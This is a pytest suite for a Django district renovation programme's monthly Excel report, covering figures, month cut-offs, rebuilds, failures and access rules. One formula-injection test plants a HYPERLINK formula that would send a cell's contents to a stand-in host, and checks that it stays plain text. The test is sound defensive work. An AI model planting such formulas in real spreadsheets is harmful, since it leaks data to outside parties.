"""The monthly joint-meeting report: figures against independent queries, as-of-month
semantics, idempotent builds, failure recording, the dashboard agreeing with the workbook."""

import datetime
import io
import threading
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection, connections
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from renovation import report_workbook
from renovation.models import (
    FundingAllocation,
    MonthlyReport,
    ProjectStatus,
    RenovationProject,
)
from renovation.report_workbook import build_workbook
from renovation.selectors.report import Month, summary_figures
from renovation.services import (
    disbursement_create,
    progress_record,
    project_transition,
    report_build,
    report_request,
)
from tests.factories import CompoundFactory, ProjectFactory

D = datetime.date
JUNE = Month.parse("2022-06")


def workbook(month: Month) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(build_workbook(month)))


def summary_values(book) -> dict[str, object]:
    """Label → this month's value, from the Summary sheet."""
    return {row[0]: row[1] for row in book["总览"].iter_rows(min_row=4, values_only=True) if row[0]}


def test_workbook_has_every_sheet_with_title_and_frozen_header(programme):
    book = workbook(JUNE)
    assert book.sheetnames == [
        "总览", "项目进度", "资金", "居民诉求", "一线支部", "议定事项", "统计月报",
    ]  # fmt: skip
    for sheet in book.worksheets:
        assert "2022-06" in sheet["A1"].value and "柳北区" in sheet["A1"].value
        assert sheet.freeze_panes == "A4"
        assert sheet.column_dimensions["A"].width > 5


def test_summary_figures_match_independent_queries(programme):
    values = summary_values(workbook(JUNE))
    assert values["居民小区总数"] == 4
    assert values["其中：老旧小区"] == 4
    assert values["2022年计划改造小区"] == "=SUM(B11:B14)"
    assert values["其中：已进场施工"] == 1
    assert values["其中：前期推进中"] == 2
    assert values["惠及居民"] == 240
    assert values["已下达资金"] == 60  # 万元
    assert values["已拨付资金"] == 15
    assert values["2021—2021年已改造老旧小区"] == 1
    assert values["2021—2021年改造总投资"] == pytest.approx(0.39)  # 亿元


def test_projects_sheet_lists_the_years_batch_with_money_and_status_then(programme):
    sheet = workbook(JUNE)["项目进度"]
    rows = [r for r in sheet.iter_rows(min_row=4, values_only=True) if isinstance(r[0], int)]
    by_name = {row[4]: row for row in rows}
    built = by_name[programme["built"].name]
    assert built[12:14] == (600000, 150000)
    assert built[15] == "进场施工"
    assert built[16] == pytest.approx(0.35)
    assert len(rows) == 3  # the finished 2021 project is not listed
    totals = next(r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] == "合计")
    assert totals[9] == f"=SUM(J4:J{3 + len(rows)})"


def test_text_that_looks_like_a_formula_stays_text(programme):
    """Names and words typed into the system are written as text even when they start with
    "=": a formula in the joint meeting's workbook could link out or leak the sheet. The
    workbook's own formulas stay formulas."""
    project = programme["built"]
    typed = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
    RenovationProject.objects.filter(pk=project.pk).update(name=typed)
    sheet = workbook(JUNE)["项目进度"]
    cells = [cell for row in sheet.iter_rows(min_row=4) for cell in row]
    typed_cells = [cell for cell in cells if cell.value == typed]
    assert len(typed_cells) == 1 and typed_cells[0].data_type == "s"
    assert typed_cells[0].quotePrefix  # still text when edited in Excel
    formulas = [cell for cell in cells if cell.data_type == "f"]
    assert formulas and all(cell.value.startswith(("=SUM(", "=IF(")) for cell in formulas)


def test_the_workbooks_own_formulas_stay_formulas(programme):
    """With no typed text that starts with "=", every such cell of every sheet is one of
    the workbook's own formulas, and each sheet that works figures out has some."""
    book = workbook(JUNE)
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        looks = [cell for cell in cells if str(cell.value or "").startswith("=")]
        assert all(cell.data_type == "f" for cell in looks), sheet.title
    for title in ["总览", "项目进度", "资金", "居民诉求", "议定事项", "统计月报"]:
        rows = book[title].iter_rows(min_row=4)
        assert any(cell.data_type == "f" for row in rows for cell in row), title


def test_a_change_in_july_does_not_alter_junes_report(programme, users):
    office = users["programme_office"]
    before = summary_figures(JUNE)
    june_bytes_values = summary_values(workbook(JUNE))
    project_transition(
        project=programme["approved"],
        to_status=ProjectStatus.UNDER_CONSTRUCTION,
        user=office,
        on=D(2022, 7, 5),
    )
    progress_record(project=programme["built"], percent=60, on=D(2022, 7, 31), user=office)
    disbursement_create(
        allocation=programme["allocation"], amount="100000", on=D(2022, 7, 20), user=office
    )
    assert summary_figures(JUNE) == before
    assert summary_values(workbook(JUNE)) == june_bytes_values
    july = summary_figures(Month.parse("2022-07"))
    assert july["batch_under_construction"] == 2
    assert july["batch_paid"] == Decimal("250000")


def test_summary_compares_with_the_month_before(programme):
    values = {
        row[0]: row
        for row in workbook(Month.parse("2022-03"))["总览"].iter_rows(min_row=4, values_only=True)
    }
    assert values["其中：已进场施工"][1:3] == (1, 0)
    assert values["其中：已进场施工"][3] == "=B12-C12"


def test_workbook_contains_two_charts_and_no_phone_numbers(programme):
    content = build_workbook(JUNE)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        text = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".xml"))
    assert len(charts) == 2
    import re

    assert not re.search(rb"1[3-9]\d{9}", text)


def test_report_query_count_does_not_grow_with_projects(programme, registry):
    with CaptureQueriesContext(connection) as few:
        build_workbook(JUNE)
    for _ in range(15):
        project = ProjectFactory(compound=CompoundFactory(community=registry["b1"]))
        project.transitions.create(to_status=ProjectStatus.PIPELINE, effective_on=D(2022, 1, 1))
    with CaptureQueriesContext(connection) as many:
        build_workbook(JUNE)
    assert len(many.captured_queries) == len(few.captured_queries)


def test_request_builds_and_stores_the_workbook(
    programme, users, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    with django_capture_on_commit_callbacks(execute=True):  # tasks run inline, on commit
        report = report_request(month=JUNE, user=users["programme_office"])
    report.refresh_from_db()
    assert report.status == MonthlyReport.Status.DONE
    assert report.requested_by == users["programme_office"]
    assert report.finished_at >= report.started_at
    book = openpyxl.load_workbook(report.file.path)
    assert summary_values(book)["其中：已进场施工"] == 1


def test_regenerating_replaces_the_file_and_keeps_one_row(
    programme, users, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    with django_capture_on_commit_callbacks(execute=True):
        first = report_request(month=JUNE, user=users["programme_office"])
    first.refresh_from_db()
    with django_capture_on_commit_callbacks(execute=True):
        second = report_request(month=JUNE, user=None)
    second.refresh_from_db()
    assert MonthlyReport.objects.count() == 1 and first.pk == second.pk
    assert second.requested_by is None and second.attempts == 2
    files = list((tmp_path / "reports" / "2022-06").iterdir())
    assert len(files) == 1


def test_building_twice_is_idempotent(programme, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    report = report_request(month=JUNE, enqueue=False)
    report_build(report_id=report.pk)
    again = report_build(report_id=report.pk)
    assert again.attempts == 1 and again.status == MonthlyReport.Status.DONE


def test_a_failure_is_recorded_with_its_reason(
    programme, settings, tmp_path, monkeypatch, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path

    def broken_sheet(workbook, context):
        raise RuntimeError("the funding figures could not be read")

    monkeypatch.setattr(report_workbook, "SHEETS", [*report_workbook.SHEETS, broken_sheet])
    report = report_request(month=JUNE, enqueue=False)
    with pytest.raises(RuntimeError):
        report_build(report_id=report.pk)
    report.refresh_from_db()
    assert report.status == MonthlyReport.Status.FAILED
    assert "the funding figures could not be read" in report.error
    assert not report.file
    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True):
        report_request(month=JUNE)
    report.refresh_from_db()
    assert report.status == MonthlyReport.Status.DONE and report.error == ""


@pytest.mark.usefixtures("english")
@pytest.mark.parametrize(
    ("month", "words"),
    [(Month(D(2099, 1, 1)), "has begun"), (Month(D(1999, 12, 1)), "before 2000")],
)
def test_months_outside_the_programme_are_refused(db, month, words):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError, match=words):
        report_request(month=month)
    assert not MonthlyReport.objects.exists()


@pytest.mark.parametrize("text", ["2022-13", "2022/06", "june", "", "20222-01"])
def test_bad_month_text_is_refused(text):
    with pytest.raises(ValueError, match="YYYY-MM"):
        Month.parse(text)


def test_command_writes_the_workbook(programme, tmp_path):
    target = tmp_path / "r.xlsx"
    call_command("monthly_report", "2022-06", "--output", str(target), stdout=io.StringIO())
    assert summary_values(openpyxl.load_workbook(target))["惠及居民"] == 240


@pytest.mark.parametrize(
    ("args", "words"),
    [(["2022-13"], "YYYY-MM"), (["2022-06", "--output", "r.csv"], ".xlsx")],
)
def test_command_refuses_bad_arguments(db, args, words):
    with pytest.raises(CommandError, match=words):
        call_command("monthly_report", *args)


def test_dashboard_and_workbook_agree(programme, client, users):
    client.force_login(users["leader"])
    response = client.get(reverse("dashboard"), {"month": "2022-06"})
    now = response.context["figures"]["now"]
    values = summary_values(workbook(JUNE))
    assert values["居民小区总数"] == now["compounds"]
    assert values["其中：老旧小区"] == now["old_compounds"]
    assert values["其中：已进场施工"] == now["batch_under_construction"]
    assert values["其中：前期推进中"] == now["batch_preparation"]
    assert values["惠及居民"] == now["batch_households"]
    assert Decimal(str(values["已拨付资金"])) * 10000 == now["batch_paid"]
    assert Decimal(str(values["已下达资金"])) * 10000 == now["batch_allocated"]


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("programme_office", 200),
        ("leader", 200),
        ("finance", 200),
        ("sub_district_staff", 403),
        ("community_staff", 403),
        ("grid_worker", 403),
    ],
)
def test_dashboard_and_reports_are_for_district_roles(client, users, role, status):
    client.force_login(users[role])
    assert client.get(reverse("dashboard")).status_code == status
    assert client.get(reverse("report-list")).status_code == status


def test_only_the_programme_office_asks_for_reports(client, users, programme):
    client.force_login(users["leader"])
    assert client.post(reverse("report-list"), {"month": "2022-06"}).status_code == 403
    assert not MonthlyReport.objects.exists()


def test_bad_month_on_the_page_is_a_clear_error(client, users):
    client.force_login(users["programme_office"])
    response = client.post(reverse("report-list"), {"month": "2022-13"})
    assert response.status_code == 200
    assert "YYYY-MM" in response.content.decode()
    assert not MonthlyReport.objects.exists()


def test_status_and_download_pages(
    client, users, programme, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(users["programme_office"])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("report-list"), {"month": "2022-06"})
    report = MonthlyReport.objects.get()
    status = client.get(reverse("report-status", args=[report.pk])).json()
    assert status["status"] == "done" and status["download"]
    response = client.get(status["download"])
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert "总览" in book.sheetnames
    client.force_login(users["community_staff"])
    assert client.get(reverse("report-download", args=[report.pk])).status_code == 403


def test_missing_report_gives_404(client, users):
    client.force_login(users["programme_office"])
    assert client.get(reverse("report-status", args=[999])).status_code == 404


postgres_only = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="row locks need PostgreSQL (CI runs it)"
)


@postgres_only
@pytest.mark.django_db(transaction=True)
def test_two_requests_at_once_make_one_report(registry, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    barrier = threading.Barrier(2)
    results = []

    def ask():
        try:
            barrier.wait()
            results.append(report_request(month=JUNE, enqueue=False).pk)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=ask) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(set(results)) == 1
    assert MonthlyReport.objects.count() == 1


def test_allocations_dated_after_the_month_are_not_counted(programme, users):
    FundingAllocation.objects.filter(pk=programme["allocation"].pk).update(
        allocated_on=D(2022, 7, 1)
    )
    assert summary_figures(JUNE)["batch_allocated"] == Decimal("0")
